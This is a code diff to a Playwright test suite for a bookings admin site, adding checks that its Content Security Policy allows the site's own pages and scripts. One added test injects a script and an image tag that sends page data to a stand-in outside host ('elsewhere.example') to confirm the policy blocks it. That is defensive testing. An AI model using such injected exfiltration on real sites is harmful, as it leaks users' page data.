@@ -51,6 +51,7 @@ def open_page(chromium, office):
         page = context.new_page()
         page.set_default_timeout(15_000)
         page.on("pageerror", lambda error: faults.append(str(error)))
+        page.on("console", lambda said: faults.append(said.text) if "Content Security Policy" in said.text else None)
         page.on("response", lambda answer: faults.append(answer.url) if answer.status >= 400 else None)
         page.on("request", lambda asked: faults.append(asked.url) if not asked.url.startswith(office.url) else None)
         browser.log_in(page, office.url, name, scene.PASSWORD)
@@ -263,3 +264,43 @@ def test_nothing_serious_keeps_anybody_out(open_page, office, scheme):
         if found := seriously_wrong(page):
             wrong[address] = found
     assert wrong == {}, json.dumps(wrong, indent=1)
+
+
+def test_the_content_security_policy_stops_nothing_that_belongs_there(open_page, office):
+    """Each kind of page is opened and its scripts are used; `open_page` fails at any refusal of the browser."""
+    page = open_page("supervisor")
+    for address in (
+        "",
+        "bookings/workorder/?view=all",
+        "bookings/appointmentslot/add/",
+        "bookings/servicearea/1/change/",
+    ):
+        page.goto(f"{office.url}/admin/{address}")
+        page.wait_for_load_state("networkidle")
+    page.goto(f"{office.url}/api/v1/docs")
+    page.get_by_text("/api/v1/appointments/search").first.wait_for()
+    page.get_by_text("/api/v1/appointments/search").first.click()
+    page.get_by_role("button", name="Try it out").wait_for()
+
+
+def test_the_test_above_would_notice_what_does_not_belong_there(chromium, office):
+    """A script that somebody smuggles into a page of the admin does not run, and sends nothing anywhere."""
+    said = []
+    context = chromium.new_context()
+    page = context.new_page()
+    page.on("console", lambda message: said.append(message.text))
+    browser.log_in(page, office.url, "dispatcher", scene.PASSWORD)
+    page.evaluate(
+        """() => {
+            const script = document.createElement('script');
+            script.textContent = 'document.title = "smuggled"';
+            document.body.append(script);
+            const picture = document.createElement('img');
+            picture.src = 'https://elsewhere.example/' + document.title;
+            document.body.append(picture);
+        }"""
+    )
+    page.wait_for_load_state("networkidle")
+    assert page.title() != "smuggled"
+    assert len([text for text in said if "Content Security Policy" in text]) == 2, said
+    context.close()
